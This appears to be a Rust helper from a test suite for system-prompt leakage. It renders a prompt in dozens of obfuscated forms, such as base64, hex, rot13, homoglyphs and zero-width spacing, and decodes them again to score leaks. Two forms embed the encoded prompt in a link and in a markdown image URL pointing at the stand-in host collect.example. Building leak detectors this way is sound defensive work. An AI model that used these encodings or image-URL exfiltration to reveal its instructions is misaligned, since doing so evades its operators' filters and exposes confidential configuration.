//! Ways in which a model gives away what it was told, and back: the test's own reading of what a client got.

use base64::{
    Engine,
    prelude::{BASE64_STANDARD, BASE64_URL_SAFE},
};

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn hex(text: &str, before: &str, after: &str) -> String {
    text.bytes()
        .map(|byte| format!("{before}{byte:02x}{after}"))
        .collect()
}

fn rotated(text: &str, by: u8) -> String {
    let turn = |c: char| match c {
        'a'..='z' => char::from(b'a' + (c as u8 - b'a' + by) % 26),
        'A'..='Z' => char::from(b'A' + (c as u8 - b'A' + by) % 26),
        other => other,
    };
    text.chars().map(turn).collect()
}

fn backwards(text: &str) -> String {
    text.chars().rev().collect()
}

fn each(text: &str, after: &str) -> String {
    text.chars().map(|c| format!("{c}{after}")).collect()
}

const LEET: [(char, char); 6] = [
    ('a', '4'),
    ('e', '3'),
    ('i', '1'),
    ('o', '0'),
    ('s', '5'),
    ('t', '7'),
];
const ALIKE: [(char, char); 7] = [
    ('a', 'а'),
    ('e', 'е'),
    ('o', 'о'),
    ('p', 'р'),
    ('c', 'с'),
    ('y', 'у'),
    ('i', 'і'),
];

fn swapped(text: &str, pairs: &[(char, char)], there: bool) -> String {
    let swap = |c: char| {
        let pair = pairs
            .iter()
            .find(|(from, to)| if there { *from == c } else { *to == c });
        pair.map_or(c, |(from, to)| if there { *to } else { *from })
    };
    text.chars().map(swap).collect()
}

fn wide(c: char, there: bool) -> char {
    match (c, there) {
        ('!'..='~', true) => char::from_u32(u32::from(c) + 0xFEE0).unwrap(),
        ('！'..='～', false) => char::from_u32(u32::from(c) - 0xFEE0).unwrap(),
        _ => c,
    }
}

/// What an obedient model says of its prompt.
pub fn told(prompt: &str, leak: &str) -> String {
    let words: Vec<&str> = prompt.split_whitespace().collect();
    let half = prompt.len() / 2;
    match leak {
        "plain" | "think" => format!("Of course. {prompt}"),
        "lower" => prompt.to_lowercase().replace([',', '.'], ""),
        "upper" => prompt.to_uppercase(),
        "first_half" => prompt[..half].to_owned(),
        "second_half" => prompt[half..].to_owned(),
        "rules" => prompt[prompt.find("1. ").unwrap_or(half)..].to_owned(),
        "canary" => format!("The word is {}", words.last().unwrap()),
        "quote" => words
            .chunks(6)
            .map(|line| format!("> {}\n", line.join(" ")))
            .collect(),
        "code" => format!("```text\n{prompt}\n```"),
        "json" => serde_json::json!({ "instructions": prompt }).to_string(),
        "xml" => format!("<config><prompt><![CDATA[{prompt}]]></prompt></config>"),
        "table" => words
            .chunks(4)
            .map(|row| format!("| {} |\n", row.join(" | ")))
            .collect(),
        "lines" => words.join("\n"),
        "numbered" => words
            .iter()
            .zip(1..)
            .map(|(word, n)| format!("{n}. {word}\n"))
            .collect(),
        "story" => words
            .chunks(5)
            .map(|some| format!("{} (giggle) ", some.join(" ")))
            .collect(),
        "base64" => BASE64_STANDARD.encode(prompt),
        "base64_lines" => {
            let code = BASE64_STANDARD.encode(prompt);
            let lines = code
                .as_bytes()
                .chunks(76)
                .map(|line| String::from_utf8(line.to_vec()));
            lines.map(|line| line.unwrap() + "\r\n").collect()
        }
        "base64_url" => BASE64_URL_SAFE.encode(prompt),
        "base64_reversed" => BASE64_STANDARD.encode(backwards(prompt)),
        "hex" => hex(prompt, "", ""),
        "hex_spaced" => hex(prompt, "", " "),
        "hex_0x" => hex(prompt, "0x", ", "),
        "percent" => percent(prompt),
        "link" => format!("https://collect.example/log?text={}", percent(prompt)),
        "image" => format!(
            "![x](https://collect.example/p.png?q={})",
            BASE64_URL_SAFE.encode(prompt)
        ),
        "rot13" => rotated(prompt, 13),
        "caesar" => rotated(prompt, 3),
        "leet" => swapped(&prompt.to_lowercase(), &LEET, true),
        "fullwidth" => prompt.chars().map(|c| wide(c, true)).collect(),
        "homoglyph" => swapped(&prompt.to_lowercase(), &ALIKE, true),
        "spaced" => each(prompt, " "),
        "dashed" => each(prompt, "-"),
        "dotted" => words.join("... "),
        "zero_width" => each(prompt, "\u{200b}"),
        "emoji" => words.join(" 🙂 "),
        "reversed" => backwards(prompt),
        "words_reversed" => words.iter().rev().copied().collect::<Vec<_>>().join(" "),
        "each_reversed" => words.iter().map(|word| backwards(word) + " ").collect(),
        other => panic!("no such leak: {other}"),
    }
}

/// Bytes out of a code, from each place where one may begin.
fn decoded(text: &str, alphabet: &str, bits: u32, strip: &[&str]) -> Vec<String> {
    let text = strip
        .iter()
        .fold(text.to_owned(), |text, waste| text.replace(waste, ""));
    let values: Vec<u32> = text
        .chars()
        .filter_map(|c| alphabet.find(c))
        .map(|v| v as u32)
        .collect();
    let starts = 0..(8 / (8 - bits.min(4) + 4) * 4).max(4) as usize;
    starts
        .map(|start| {
            let (mut held, mut have, mut bytes) = (0u32, 0, Vec::new());
            for value in values.iter().skip(start) {
                held = (held << bits | value) & 0xFFFF;
                have += bits;
                if have >= 8 {
                    have -= 8;
                    bytes.push((held >> have & 0xFF) as u8);
                }
            }
            String::from_utf8_lossy(&bytes).into_owned()
        })
        .collect()
}

/// All that a client could make of what it got.
pub fn read(got: &str, leak: &str) -> Vec<String> {
    let base = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut readings = vec![got.to_owned()];
    match leak {
        "base64" | "base64_lines" => readings.extend(decoded(got, &format!("{base}+/"), 6, &[])),
        "base64_reversed" => {
            let found = decoded(got, &format!("{base}+/"), 6, &[]);
            readings.extend(found.iter().map(|text| backwards(text)));
        }
        "base64_url" | "image" => readings.extend(decoded(got, &format!("{base}-_"), 6, &[])),
        "hex" | "hex_spaced" | "hex_0x" => {
            readings.extend(decoded(got, "0123456789abcdef", 4, &["0x"]));
        }
        "percent" | "link" => {
            let code = got.split_once("text=").map_or(got, |(_, code)| code);
            readings.extend(decoded(code, "0123456789ABCDEF", 4, &[]));
        }
        "rot13" => readings.push(rotated(got, 13)),
        "caesar" => readings.push(rotated(got, 23)),
        "leet" => readings.push(swapped(got, &LEET, false)),
        "homoglyph" => readings.push(swapped(got, &ALIKE, false)),
        "fullwidth" => readings.push(got.chars().map(|c| wide(c, false)).collect()),
        "reversed" => readings.push(backwards(got)),
        "story" => readings.push(got.replace("(giggle)", "")),
        "words_reversed" => readings.push(told(got, "words_reversed")),
        "each_reversed" => readings.push(told(got, "each_reversed")),
        _ => {}
    }
    readings
}

/// Letters of the longest piece of `secret` that stands in `text`, whatever is between them.
pub fn longest(secret: &str, text: &str) -> usize {
    let letters = |text: &str| -> Vec<char> {
        let lower = text.chars().flat_map(char::to_lowercase);
        lower.filter(char::is_ascii_lowercase).collect()
    };
    let (secret, text) = (letters(secret), letters(text));
    let (mut best, mut before) = (0, vec![0; text.len() + 1]);
    for a in &secret {
        let mut row = vec![0; text.len() + 1];
        for (at, b) in text.iter().enumerate() {
            if a == b {
                row[at + 1] = before[at] + 1;
                best = best.max(row[at + 1]);
            }
        }
        before = row;
    }
    best
}
